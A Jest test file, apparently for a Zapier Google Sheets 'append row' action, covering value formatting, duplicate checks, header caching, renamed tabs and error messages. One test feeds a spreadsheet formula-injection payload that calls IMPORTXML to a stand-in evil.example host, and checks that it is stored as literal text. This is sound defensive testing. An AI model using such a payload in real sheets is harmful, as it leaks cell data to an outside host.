import nock from 'nock';
import App from '../../index';
import type { AppendValuesResponse, Spreadsheet } from '../../lib/google/types';
import {
  appTester,
  caught,
  refusedBeforeSending as refused,
  countRequests,
  makeBundle,
  recordUnmatched,
  SHEETS_HOST,
} from '../helpers';
import { useRuntime } from '../runtime';
import {
  appendWrite,
  headerAndColumnRead,
  headerRead,
  SHEET_ID,
  SHEET_URL,
  tabsRead,
  valuesPath,
  type Captured,
} from './sheets-helpers';

const HEADER = ['Session ID', 'Customer', 'Email', 'Amount'];
// Zapier's runtime with a faithful cache (scope, TTL, nx): one per test, kept across its runs.
const runtime = useRuntime();
const run = (inputData: Record<string, unknown>) =>
  runtime().run(
    'creates.append_sheet_row.operation.perform',
    makeBundle({ inputData: { spreadsheet: SHEET_URL, worksheet: 'Orders', ...inputData } }),
  );

describe('append_sheet_row', () => {
  it('writes RAW, INSERT_ROWS, anchored at A1, padded to the header width', async () => {
    const captured: Captured[] = [];
    tabsRead([['Orders', 0]]);
    headerRead('Orders', HEADER);
    appendWrite('Orders', 7, 4, captured);
    const out = await run({ COL$A: 'cs_test_1', COL$C: 'ada@example.com' });
    expect(captured[0].query).toEqual({
      valueInputOption: 'RAW',
      insertDataOption: 'INSERT_ROWS',
      includeValuesInResponse: 'false',
    });
    expect(captured[0].body).toEqual({
      majorDimension: 'ROWS',
      values: [['cs_test_1', '', 'ada@example.com', '']],
    });
    expect(out).toEqual({
      spreadsheet_id: SHEET_ID,
      worksheet: 'Orders',
      row_number: 7,
      updated_range: "'Orders'!A7:D7",
      values: ['cs_test_1', '', 'ada@example.com', ''],
      skipped_duplicate: false,
      existing_row: null,
    });
  });

  it('writes a value mapped past the header width, in its own column, instead of dropping it', async () => {
    const captured: Captured[] = [];
    tabsRead([['Orders', 0]]);
    headerRead('Orders', HEADER);
    appendWrite('Orders', 9, 6, captured);
    const out = await run({ COL$A: 'cs_test_2', COL$F: '1234567890123456789' });
    expect(captured[0].body.values).toEqual([['cs_test_2', '', '', '', '', '1234567890123456789']]);
    expect(out).toMatchObject({ row_number: 9, values: captured[0].body.values[0] });
  });

  it('stores formula-like customer text literally, numbers as numbers, long numbers as text', async () => {
    const captured: Captured[] = [];
    tabsRead([['Orders', 0]]);
    headerRead('Orders', [...HEADER, 'Card', 'Rate']);
    appendWrite('Orders', 8, 6, captured);
    await run({
      COL$A: '=IMPORTXML("https://evil.example/?"&A1,"//a")',
      COL$B: '+SUM(1)',
      COL$C: '@me',
      COL$D: '48.60',
      COL$E: '4242424242424242',
      COL$F: '1234567890.1234567',
    });
    expect(captured[0].query.valueInputOption).toBe('RAW');
    expect(captured[0].body.values[0]).toEqual([
      '=IMPORTXML("https://evil.example/?"&A1,"//a")',
      '+SUM(1)',
      '@me',
      48.6,
      '4242424242424242',
      '1234567890.1234567',
    ]);
  });

  it.each([["Bob's Orders"], ['Q1 2026 orders'], ['Bestellungen März 🧾']])(
    'quotes the worksheet %j in the range',
    async (worksheet) => {
      tabsRead([[worksheet, 5]]);
      headerRead(worksheet, HEADER);
      const scope = appendWrite(worksheet, 2, 4);
      await run({ worksheet, COL$A: 'x' });
      expect(scope.isDone()).toBe(true);
    },
  );

  it('learns the tab and header once, then one write per row', async () => {
    const reads = countRequests(tabsRead([['Cached', 3]]), headerRead('Cached', HEADER));
    appendWrite('Cached', 2, 4)
      .post(valuesPath("'Cached'!A1:append"))
      .query(true)
      .reply(200, {
        spreadsheetId: SHEET_ID,
        updates: { updatedRange: "'Cached'!A3:D3" },
      } satisfies AppendValuesResponse);
    await run({ worksheet: 'Cached', COL$A: 'a' });
    await run({ worksheet: 'Cached', COL$A: 'b' });
    expect(reads()).toBe(2);
  });

  it('re-reads the header when a value reaches past the cached columns', async () => {
    tabsRead([['Grown', 1]]);
    const reads = countRequests(
      headerRead('Grown', ['A']),
      headerRead('Grown', ['A', 'B', 'C', 'New']),
    );
    appendWrite('Grown', 2, 1);
    appendWrite('Grown', 3, 4);
    await run({ worksheet: 'Grown', COL$A: 'a' });
    const out = (await run({ worksheet: 'Grown', COL$D: 'd' })) as { values: unknown[] };
    expect(reads()).toBe(2);
    expect(out.values).toEqual(['', '', '', 'd']);
  });

  it('skips a row whose dedupe value is already there, and names the row', async () => {
    tabsRead([['Orders', 0]]);
    headerAndColumnRead('Orders', HEADER, 'A', ['Session ID', 'cs_test_0', 'cs_test_1']);
    const unmatched = recordUnmatched();
    const out = await run({ COL$A: 'cs_test_1', dedupe_column: 'Session ID' });
    unmatched.stop();
    expect(out).toMatchObject({ skipped_duplicate: true, existing_row: 3, row_number: null });
    expect(unmatched.urls).toEqual([]);
  });

  it('appends when the dedupe value is new (column given by letter): one read, one write', async () => {
    tabsRead([['Orders', 0]]);
    const google = countRequests(
      headerAndColumnRead('Orders', HEADER, 'A', ['Session ID', 'cs_test_0']),
      appendWrite('Orders', 3, 4),
    );
    expect(await run({ COL$A: 'cs_test_2', dedupe_column: 'A' })).toMatchObject({
      skipped_duplicate: false,
      row_number: 3,
    });
    expect(google()).toBe(2);
  });

  it('a header named like a column letter wins over the letter', async () => {
    const header = ['Customer', 'Email', 'ID'];
    tabsRead([['Orders', 0]]);
    headerAndColumnRead('Orders', header, 'A', ['Customer', 'Ada']);
    nock(SHEETS_HOST)
      .get(valuesPath("'Orders'!C:C"))
      .query({ majorDimension: 'COLUMNS' })
      .reply(200, { majorDimension: 'COLUMNS', values: [['ID', 'order-7', 'order-9']] });
    const out = await run({ COL$A: 'Ada', COL$C: 'order-9', dedupe_column: 'ID' });
    expect(out).toMatchObject({ skipped_duplicate: true, existing_row: 3 });
  });

  it.each([
    ['a header that is not there', 'Order Number'],
    ['a letter outside the header', 'SID'],
    ['a letter just past the header', 'E'],
  ])('refuses %s as the dedupe column, writing nothing', async (_case, spec) => {
    tabsRead([['Orders', 0]]);
    headerAndColumnRead('Orders', HEADER, 'A', ['Session ID']);
    const { err, sent } = await refused(() => run({ COL$A: 'x', dedupe_column: spec }));
    expect(err).toMatchObject({
      code: 'invalid_input',
      message: expect.stringMatching(new RegExp(`No column "${spec}" in row 1 of "Orders"`)),
    });
    expect(sent).toEqual([]);
  });

  it('a column inserted since the header was cached: the check and the write follow the live header', async () => {
    const captured: Captured[] = [];
    tabsRead([['Orders', 0]]);
    headerAndColumnRead('Orders', HEADER, 'A', ['Session ID', 'cs_test_0']);
    appendWrite('Orders', 3, 4, captured);
    await run({ COL$A: 'cs_test_1', dedupe_column: 'Session ID' });
    // Someone inserts a "Date" column in front: Session ID is now B.
    const moved = ['Date', ...HEADER];
    headerAndColumnRead('Orders', moved, 'A', ['Date', '2026-11-01', '2026-11-02']);
    nock(SHEETS_HOST)
      .get(valuesPath("'Orders'!B:B"))
      .query({ majorDimension: 'COLUMNS' })
      .reply(200, {
        majorDimension: 'COLUMNS',
        values: [['Session ID', 'cs_test_0', 'cs_test_1']],
      });
    const replay = await run({ COL$B: 'cs_test_1', dedupe_column: 'Session ID' });
    expect(replay).toMatchObject({ skipped_duplicate: true, existing_row: 3 });
  });

  describe('columns that move after the fields were set up', () => {
    const setUp = async () => {
      tabsRead([['Orders', 0]]);
      headerRead('Orders', HEADER);
      await runtime().run(
        'creates.append_sheet_row.operation.inputFields.3',
        makeBundle({
          inputData: { spreadsheet: SHEET_URL, worksheet: 'Orders' },
          meta: { zap: { id: 'zap-1' } } as never,
        }),
      );
    };
    const runZap = (inputData: Record<string, unknown>) =>
      runtime().run(
        'creates.append_sheet_row.operation.perform',
        makeBundle({
          inputData: { spreadsheet: SHEET_URL, worksheet: 'Orders', ...inputData },
          meta: { zap: { id: 'zap-1' } } as never,
        }),
      );

    it.each([
      ['without a duplicate check', {}],
      [
        'with the duplicate check (the replay that was appended again, shifted)',
        { dedupe_column: 'Session ID' },
      ],
    ])('a column inserted in front is refused %s, nothing written', async (_name, extra) => {
      await setUp();
      const moved = ['Date', ...HEADER];
      headerRead('Orders', moved);
      headerAndColumnRead('Orders', moved, 'A', ['Date', '2026-11-01']);
      nock(SHEETS_HOST)
        .get(valuesPath("'Orders'!B:B"))
        .query({ majorDimension: 'COLUMNS' })
        .reply(200, { majorDimension: 'COLUMNS', values: [['Session ID', 'cs_test_1']] });
      const { err, sent } = await refused(() =>
        runZap({ COL$A: 'cs_test_1', COL$C: 'ada@example.com', ...extra }),
      );
      expect(err).toMatchObject({ code: 'invalid_input' });
      expect(err.message).toMatch(
        /Columns moved since this step was set up \("Session ID" was column A, now B; "Email" was column C, now D\)\. Nothing was written/,
      );
      expect(err.message.length).toBeLessThanOrEqual(250);
      expect(sent).toEqual([]);
    });

    it.each([
      ['a renamed header', ['Session ID', 'Customer', 'E-mail', 'Amount']],
      ['a column added at the end', [...HEADER, 'Notes']],
    ])('%s keeps writing', async (_name, live) => {
      await setUp();
      headerRead('Orders', live);
      const write = appendWrite('Orders', 5, live.length);
      await runZap({ COL$A: 'cs_test_1', COL$C: 'ada@example.com' });
      expect(write.isDone()).toBe(true);
    });
  });

  it('a 5xx on append says the row may have been written, and that the dedupe column makes a replay safe', async () => {
    tabsRead([['Orders', 0]]);
    headerAndColumnRead('Orders', HEADER, 'A', ['Session ID']);
    nock(SHEETS_HOST)
      .post(valuesPath("'Orders'!A1:append"))
      .query(true)
      .reply(503, { error: { code: 503, message: 'The service is currently unavailable.' } });
    const err = await caught(() => run({ COL$A: 'cs_test_1', dedupe_column: 'Session ID' }));
    expect(err.message).toMatch(
      /503.*The row may have been written\. Replaying is safe: the duplicate check on "Session ID" skips/,
    );
    expect(err.message).not.toMatch(/nothing was written/);
  });

  it('a 5xx on append without a dedupe column says to check the sheet before replaying', async () => {
    tabsRead([['Orders', 0]]);
    headerRead('Orders', HEADER);
    nock(SHEETS_HOST)
      .post(valuesPath("'Orders'!A1:append"))
      .query(true)
      .reply(500, { error: { code: 500, message: 'Internal error encountered.' } });
    const err = await caught(() => run({ COL$A: 'x' }));
    expect(err.message).toMatch(/may have been written\. Check the sheet before replaying/);
  });

  it('a renamed tab still gets the row: found again by its id, and remembered', async () => {
    tabsRead([['Orders', 42]]);
    headerRead('Orders', HEADER);
    appendWrite('Orders', 2, 4);
    await run({ COL$A: 'a' });
    // The tab is renamed to "Orders 2026"; the Zap still says "Orders".
    nock(SHEETS_HOST)
      .post(valuesPath("'Orders'!A1:append"))
      .query(true)
      .reply(400, {
        error: {
          code: 400,
          message: "Unable to parse range: 'Orders'!A1",
          status: 'INVALID_ARGUMENT',
        },
      });
    tabsRead([
      ['Refunds', 7],
      ['Orders 2026', 42],
    ]);
    const renamed = appendWrite('Orders 2026', 3, 4);
    const out = await run({ COL$A: 'b' });
    expect(renamed.isDone()).toBe(true);
    expect(out).toMatchObject({ worksheet: 'Orders 2026', row_number: 3 });
    // The next run goes straight to the new title.
    const next = countRequests(appendWrite('Orders 2026', 4, 4));
    await run({ COL$A: 'c' });
    expect(next()).toBe(1);
  });

  it('a tab deleted or renamed before its id was known is named in a clear refusal', async () => {
    tabsRead([['Sheet1', 0]]);
    const { err, sent } = await refused(() => run({ COL$A: 'a' }));
    expect(err).toMatchObject({ code: 'invalid_input' });
    expect(err.message).toMatch(/"Orders" is not in spreadsheet .* Pick the tab again.*"Sheet1"/);
    expect(sent).toEqual([]);
  });

  it('the field list for a tab that is gone says which tabs there are', async () => {
    tabsRead([['Sheet1', 0]]);
    const err = await caught(() =>
      runtime().run(
        'creates.append_sheet_row.operation.inputFields.3',
        makeBundle({ inputData: { spreadsheet: SHEET_ID, worksheet: 'Orders' } }),
      ),
    );
    expect(err).toMatchObject({
      code: 'invalid_input',
      message: expect.stringMatching(/"Sheet1"/),
    });
  });

  it('offers one field per header column, or says the sheet has no header', async () => {
    tabsRead([
      ['Orders', 0],
      ['Empty', 1],
    ]);
    headerRead('Orders', HEADER);
    const fields = (worksheet: string) =>
      runtime().run<{ key: string; label: string; helpText?: string }[]>(
        'creates.append_sheet_row.operation.inputFields.3',
        makeBundle({ inputData: { spreadsheet: SHEET_ID, worksheet } }),
      );
    const list = await fields('Orders');
    expect(list.map((f) => [f.key, f.label])).toEqual([
      ['COL$A', 'Session ID'],
      ['COL$B', 'Customer'],
      ['COL$C', 'Email'],
      ['COL$D', 'Amount'],
    ]);
    headerRead('Empty', []);
    expect(await fields('Empty')).toEqual([
      expect.objectContaining({
        key: 'no_header_note',
        helpText: expect.stringMatching(/no header row yet/),
      }),
    ]);
  });

  it.each([
    [
      404,
      { error: { code: 404, message: 'Requested entity was not found.', status: 'NOT_FOUND' } },
      {
        status: 404,
        message: expect.stringMatching(/could not find the worksheet "Orders" of spreadsheet/),
      },
    ],
    [
      403,
      {
        error: {
          code: 403,
          message: 'The caller does not have permission',
          status: 'PERMISSION_DENIED',
        },
      },
      { status: 403, message: expect.stringMatching(/share it with the connected Google account/) },
    ],
    [
      429,
      {
        error: {
          code: 429,
          message: "Quota exceeded for quota metric 'Write requests'",
          status: 'RESOURCE_EXHAUSTED',
        },
      },
      { name: 'ThrottledError', message: expect.stringMatching(/nothing was written/) },
    ],
    [
      400,
      {
        error: {
          code: 400,
          message: "Range ('Orders'!1:1) exceeds grid limits. Max rows: 1000, max columns: 26",
          status: 'INVALID_ARGUMENT',
        },
      },
      { status: 400, message: expect.stringMatching(/Google said: Range .* exceeds grid limits/) },
    ],
  ])('maps Google %i to a plain message', async (status, body, expected) => {
    tabsRead([['Orders', 0]]);
    nock(SHEETS_HOST).get(valuesPath("'Orders'!1:1")).reply(status, body);
    expect(await caught(() => run({ COL$A: 'x' }))).toMatchObject(expected);
  });

  it.each([
    [{ spreadsheet: 'https://example.com/sheet' }, /example\.com/],
    [{ spreadsheet: '' }, /Spreadsheet is empty/],
    [{ worksheet: '  ' }, /Worksheet is empty/],
    [{ COL$A: undefined }, /No column values/],
  ])('refuses bad input %j before any request', async (input, message) => {
    const unmatched = recordUnmatched();
    const error = await caught(() => run({ COL$A: 'x', ...input }));
    unmatched.stop();
    expect(error).toMatchObject({ code: 'invalid_input', message: expect.stringMatching(message) });
    expect(unmatched.urls).toEqual([]);
  });
});

describe('worksheet_list', () => {
  it('remembers every tab’s id in one cache write, so a tab renamed after setup still gets rows', async () => {
    tabsRead([
      ['Orders', 42],
      ...Array.from({ length: 30 }, (_, i): [string, number] => [`Month ${i}`, 100 + i]),
    ]);
    await runtime().run(
      'triggers.worksheet_list.operation.perform',
      makeBundle({ inputData: { spreadsheet: SHEET_URL } }),
    );
    const writes = runtime().cache.calls.filter((c) => c.method === 'set');
    expect(writes.map((c) => c.key)).toEqual([`sheets-tabs:${SHEET_ID}`]);
    // Renamed to "Orders (old)" before the Zap's first run.
    nock(SHEETS_HOST)
      .get(valuesPath("'Orders'!1:1"))
      .reply(400, {
        error: {
          code: 400,
          message: "Unable to parse range: 'Orders'!1:1",
          status: 'INVALID_ARGUMENT',
        },
      });
    tabsRead([['Orders (old)', 42]]);
    headerRead('Orders (old)', HEADER);
    const written = appendWrite('Orders (old)', 9, 4);
    expect(await run({ COL$A: 'x' })).toMatchObject({ worksheet: 'Orders (old)', row_number: 9 });
    expect(written.isDone()).toBe(true);
  });

  it('lists the tabs in sheet order', async () => {
    nock(SHEETS_HOST)
      .get(`/v4/spreadsheets/${SHEET_ID}`)
      .query({ fields: 'sheets.properties(sheetId,title,index)' })
      .reply(200, {
        sheets: [
          { properties: { sheetId: 7, title: 'Refunds', index: 1 } },
          { properties: { sheetId: 0, title: "Bob's Orders", index: 0 } },
        ],
      } satisfies Spreadsheet);
    const perform = (
      App.triggers.worksheet_list.operation as unknown as Record<
        string,
        Parameters<typeof appTester>[0]
      >
    ).perform;
    const out = await appTester(perform, makeBundle({ inputData: { spreadsheet: SHEET_URL } }));
    expect(out).toEqual([
      { id: "Bob's Orders", title: "Bob's Orders", index: 0 },
      { id: 'Refunds', title: 'Refunds', index: 1 },
    ]);
  });
});
